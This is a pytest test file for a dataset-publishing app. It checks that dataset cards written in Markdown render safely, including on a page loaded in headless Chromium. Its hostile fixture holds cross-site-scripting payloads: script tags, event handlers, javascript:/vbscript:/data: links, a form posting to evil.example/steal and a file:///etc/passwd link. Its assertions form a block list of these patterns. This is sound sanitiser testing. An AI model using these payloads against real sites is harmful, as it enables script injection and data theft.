"""Dataset cards: reading them for publishing, rendering them safely, showing them on the page.

Hostile cards (raw HTML, script, event handlers, javascript:/data: URLs in every spelling
Markdown allows, remote and inline images) are rendered on a seeded index and loaded in
headless Chromium: the page source and the DOM hold none of it, while the card's harmless
Markdown (headings, emphasis, tables, https links) is rendered. On the devnet, a card published
inline and one long enough to be a blob both show on the live AppView's page.
"""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import httpx
import pytest
from _fixtures.appview_index import dataset_record
from _fixtures.services import login
from atdata.atmosphere.cards import CARD_BLOB_MAX, CARD_INLINE_MAX, read_card
from atdata.atmosphere.shards import PublishError
from atdata_appview.db import Store
from atdata_appview.web import dataset_path
from atdata_appview.web.cards import blob_cid, render_card
from hypothesis import given, settings
from hypothesis import strategies as st
from test_web import dump_dom, text_of

# -- reading a card for publishing -------------------------------------------------------------


def test_read_card_takes_paths_file_names_and_text(tmp_path: Path, monkeypatch: Any) -> None:
    card = tmp_path / "README.md"
    card.write_text("# Digits\n\nHandwritten digits.\n", encoding="utf-8")
    assert read_card(card) == "# Digits\n\nHandwritten digits.\n"
    assert read_card(str(card)) == read_card(card)  # a string naming an existing file
    monkeypatch.chdir(tmp_path)
    assert read_card("README.md").startswith("# Digits")
    assert read_card("# Not a file\n") == "# Not a file\n"
    assert read_card("missing.md") == "missing.md"  # no such file: the string is the card


@pytest.mark.parametrize(
    ("card", "message"),
    [
        ("   \n", "is empty"),
        ("x" * (CARD_BLOB_MAX + 1), "over 1048576 bytes"),
    ],
)
def test_bad_cards_are_refused(card: str, message: str) -> None:
    with pytest.raises(PublishError, match=message):
        read_card(card)


def test_bad_card_files_are_refused(tmp_path: Path) -> None:
    binary = tmp_path / "card.md"
    binary.write_bytes(b"\xff\xfe\x00bad")
    with pytest.raises(PublishError, match="not UTF-8"):
        read_card(binary)
    with pytest.raises(PublishError, match="cannot read the card file"):
        read_card(tmp_path / "absent.md")
    with pytest.raises(PublishError, match="cannot read the card file"):
        read_card(tmp_path)  # a directory


# -- rendering --------------------------------------------------------------------------------

HOSTILE_CARD = """# Evil card

Hello **bold** <script>alert('s1')</script> <b onclick="alert('b')">b</b>

<img src=x onerror="alert('img')">

<script>
alert('s2')
</script>

<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<svg onload="alert('svg')"><a href="javascript:alert('svg-a')">svg link</a></svg>
<form action="https://evil.example/steal"><input name=p></form>
<a href="javascript:alert('raw-a')" onmouseover="alert('over')">raw link</a>

[click](javascript:alert('md')) [upper](JaVaScRiPt:alert('upper'))
[entity](&#106;avascript:alert('entity')) [pct](javascript%3Aalert('pct'))
[vb](vbscript:msgbox('vb')) [file](file:///etc/passwd)
[inline-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<javascript:alert('autolink')> <data:text/html,hi>
[ref link][evil] [backslash](/\\evil.example)

![remote](https://evil.example/track.png) ![inline](data:image/png;base64,iVBORw0KGgo=)
![relative](/metrics) [![linked image](https://evil.example/i.png)](https://example.com/)

[evil]: javascript:alert('ref')

| field | meaning |
|-------|---------|
| image | 8x8 grey levels |

Read the [paper](https://example.com/paper) or mail <mailto:data@example.com>.
"""

SAFE_BITS = ["Evil card", "bold", "8x8 grey levels", "paper", "linked image"]
URL_ATTR = re.compile(r"""(?:href|src|action|formaction|xlink:href)\s*=\s*["']?([^"'\s>]*)""")


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for needle in ("<script", "javascript:", "vbscript:", "data:", "<img", "<iframe", "<svg",
                   "<style", "<form", "<input", "file:"):  # fmt: skip
        assert needle not in lowered, (needle, html)
    assert re.search(r"\son\w+\s*=", lowered) is None, html
    for url in URL_ATTR.findall(html):
        assert url.startswith(("https://", "http://", "mailto:", "/")), url
        assert not url.startswith("/\\"), url


def test_hostile_card_renders_harmless() -> None:
    out = render_card(HOSTILE_CARD)
    assert_harmless(out)
    assert "<h1>Evil card</h1>" in out
    assert "<strong>bold</strong>" in out and "<td>8x8 grey levels</td>" in out
    assert 'href="https://example.com/paper"' in out and 'href="mailto:data@example.com"' in out
    # unsafe links keep their text (as text), raw HTML is removed, not shown escaped
    assert "click" in out and "upper" in out and "svg link" not in out
    assert "&lt;" not in out.split("<table>")[0]
    # images become their alt text, remote or not
    assert "<em>remote</em>" in out and "<em>inline</em>" in out


FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "JAVASCRIPT:",
    "data:", "[", "]", "(", ")", "<", ">", "![", "\n", "\n\n", "`", "```", "*", "&#106;",
    "&colon;", " ", "http://a.example/", "onload=", '"', "'", "\t", "\\", "[r]: ", "[r]",
    "<a href=", "<svg", "|", "---", "# ",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)), max_size=40))
def test_any_card_renders_harmless(parts: list[str]) -> None:
    """Whatever the Markdown, the HTML has no script, handler, unsafe URL or image; the only
    "javascript:"/"data:" left is plain text, never inside a tag."""
    out = render_card("".join(parts))
    tags = "".join(re.findall(r"<[^>]*>", out)).lower()
    assert "<script" not in tags and "<img" not in tags and "<svg" not in tags
    assert re.search(r"\son\w+\s*=", tags) is None
    assert "javascript:" not in tags and "data:" not in tags
    for url in URL_ATTR.findall(tags):
        assert url.startswith(("https://", "http://", "mailto:", "/")) or ":" not in url, url


def test_blob_cid_matches_the_pds() -> None:
    # the CID the reference PDS gives the blob b"hello world" (raw codec, sha2-256)
    assert blob_cid(b"hello world") == (
        "bafkreifzjut3te2nhyekklss27nh3k72ysco7y32koao5eei66wof36n5e"
    )


# -- the page, in Chromium ---------------------------------------------------------------------

MAL = "did:plc:mallory"


@pytest.fixture
def carded(tmp_path: Path, serve_store: Any) -> str:
    store = Store(f"sqlite:///{tmp_path / 'cards.sqlite'}")

    async def seed() -> None:
        async with store.transaction() as tx:
            tx.set_repo(MAL, handle="mallory.test", pds="http://127.0.0.1:1")
            plain = dataset_record("plain-no-card")
            tx.upsert_record(MAL, "io.atdata.dataset", "plain", "bafyplain", plain)
            evil = dataset_record("evil-card")
            evil["card"] = HOSTILE_CARD
            tx.upsert_record(MAL, "io.atdata.dataset", "evil", "bafyevil", evil)
            blob = dataset_record("blob-card-unreachable")
            blob["cardBlob"] = {
                "$type": "blob",
                "ref": {"$link": blob_cid(b"# never fetched")},
                "mimeType": "text/markdown",
                "size": 15,
            }
            tx.upsert_record(MAL, "io.atdata.dataset", "blob", "bafyblob", blob)

    asyncio.run(seed())
    try:
        yield serve_store(store).url
    finally:
        store.close()


def _card_part(page: str) -> str:
    match = re.search(r"(?s)<article class='card dataset-card'>(.*?)</article>", page)
    assert match is not None, page[:3000]
    return match.group(1)


@pytest.mark.browser
def test_hostile_card_in_chromium(carded: str) -> None:
    url = carded + dataset_path(f"at://{MAL}/io.atdata.dataset/evil")
    source = httpx.get(url).text
    baseline = httpx.get(carded + dataset_path(f"at://{MAL}/io.atdata.dataset/plain")).text
    # the page source: nothing hostile beyond what a card-less page has (one own <script>)
    assert source.count("<script") == baseline.count("<script") == 1
    for needle in ("javascript:", "vbscript:", "data:", "<img", "<iframe", "<svg", "<form"):
        assert source.lower().count(needle) == baseline.lower().count(needle), needle
    assert_harmless(_card_part(source))
    assert len(re.findall(r"\son\w+\s*=", source)) == len(re.findall(r"\son\w+\s*=", baseline))
    # the DOM Chromium built: the card's harmless Markdown is there, rendered
    dom = dump_dom(url)
    card = _card_part(dom.replace('"card dataset-card"', "'card dataset-card'"))
    assert_harmless(card)
    assert "<h1>Evil card</h1>" in card and "<table>" in card
    text = text_of(card)
    for bit in SAFE_BITS:
        assert bit in text, bit
    assert "alert(" not in text.replace("alert('s1')", "")  # only the dropped tag's inner text
    assert dom.count("<script") == 1


def test_card_less_and_unfetchable_cards(carded: str) -> None:
    plain = httpx.get(carded + dataset_path(f"at://{MAL}/io.atdata.dataset/plain"))
    assert plain.status_code == 200 and "dataset-card" not in plain.text
    blob = httpx.get(carded + dataset_path(f"at://{MAL}/io.atdata.dataset/blob"), timeout=30)
    assert blob.status_code == 200
    assert "The card could not be fetched from the author" in blob.text


def test_failed_blob_fetches_are_remembered_for_a_while() -> None:
    from atdata.errors import AtdataError
    from atdata_appview.web.cards import BlobCards

    cards = BlobCards()
    record = {"cardBlob": {"$type": "blob", "ref": {"$link": blob_cid(b"x")}, "size": 1}}

    async def go() -> None:
        with pytest.raises(AtdataError) as first:
            await cards.text(record, MAL, "http://127.0.0.1:1")  # a private address: refused
        with pytest.raises(AtdataError) as again:  # not asked again: the same answer, no PDS
            await cards.text(record, MAL, None)
        assert str(again.value) == str(first.value)
        cards._failed.clear()
        with pytest.raises(AtdataError, match="does not know the author's PDS"):
            await cards.text(record, MAL, None)
        with pytest.raises(AtdataError, match="malformed"):
            await cards.text({"cardBlob": {"ref": 3}}, MAL, "https://pds.example")

    asyncio.run(go())


# -- published on the devnet -------------------------------------------------------------------


@pytest.mark.devnet
@pytest.mark.browser
def test_cards_published_inline_and_as_blob_show_on_the_page(
    appview: Any, make_account: Any, tmp_path: Path
) -> None:
    import atdata
    from _fixtures.newcomer import Glyph, glyphs, wait_indexed

    account = make_account(1)
    client = login(account)
    infos = atdata.write_samples(glyphs(4), str(tmp_path / "g-%06d.tar"))
    short = tmp_path / "CARD.md"
    short.write_text(
        "# Glyph card\n\nSee [the docs](https://example.com/docs).\n<script>x</script>"
    )
    inline = client.publish_dataset(infos, name="carded-inline", schema=Glyph, card=short,
                                    progress=False)  # fmt: skip
    long_text = "# Long card\n\n" + "A paragraph of the long card. " * 2000 + "\n\nThe end.\n"
    assert CARD_INLINE_MAX < len(long_text.encode()) < CARD_BLOB_MAX
    blob = client.publish_dataset(infos, name="carded-blob", schema=Glyph, card=long_text,
                                  progress=False)  # fmt: skip
    assert client.get_record(str(inline)).value["card"] == short.read_text()
    blob_record = client.get_record(str(blob)).value
    assert "card" not in blob_record and blob_record["cardBlob"]["mimeType"] == "text/markdown"
    assert blob_record["cardBlob"]["ref"]["$link"] == blob_cid(long_text.encode())
    for ref in (inline, blob):
        wait_indexed(appview.url, str(ref))
    page = dump_dom(appview.url + dataset_path(str(inline)))
    card = text_of(_card_part(page.replace('"card dataset-card"', "'card dataset-card'")))
    assert "Glyph card" in card and "the docs" in card
    assert page.count("<script") == 1
    big = httpx.get(appview.url + dataset_path(str(blob)), timeout=60).text
    assert "<h1>Long card</h1>" in big and "The end." in big


@pytest.mark.devnet
def test_cli_publishes_a_card_and_lineage(make_account: Any, tmp_path: Path) -> None:
    import atdata
    from _fixtures.newcomer import Glyph, glyphs
    from test_cli import GLYPH, atdata_cli, creds

    account = make_account(0)
    client = login(account)
    infos = atdata.write_samples(glyphs(3), str(tmp_path / "g-%06d.tar"))
    source = client.publish_dataset(infos, name="cli-card-source", schema=Glyph, progress=False)
    card = tmp_path / "CARD.md"
    card.write_text("# From the CLI\n\nA card written in a file.\n", encoding="utf-8")
    done = atdata_cli(
        "publish", str(tmp_path / "g-*.tar"), "--name", "cli-card", "--schema", GLYPH,
        "--card", str(card), "--derived-from", f"{source}=subset", env=creds(account),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    record = client.get_record(done.stdout.strip()).value
    assert record["card"] == card.read_text()
    assert record["derivedFrom"] == [
        {"dataset": {"uri": str(source), "cid": source.cid}, "relation": "subset"}
    ]
    bad = atdata_cli(
        "publish", str(tmp_path / "g-*.tar"), "--name", "cli-card", "--schema", GLYPH,
        "--derived-from", f"{source}=borrowed", env=creds(account),
    )  # fmt: skip
    assert bad.returncode != 0 and "unknown lineage relation 'borrowed'" in bad.stderr
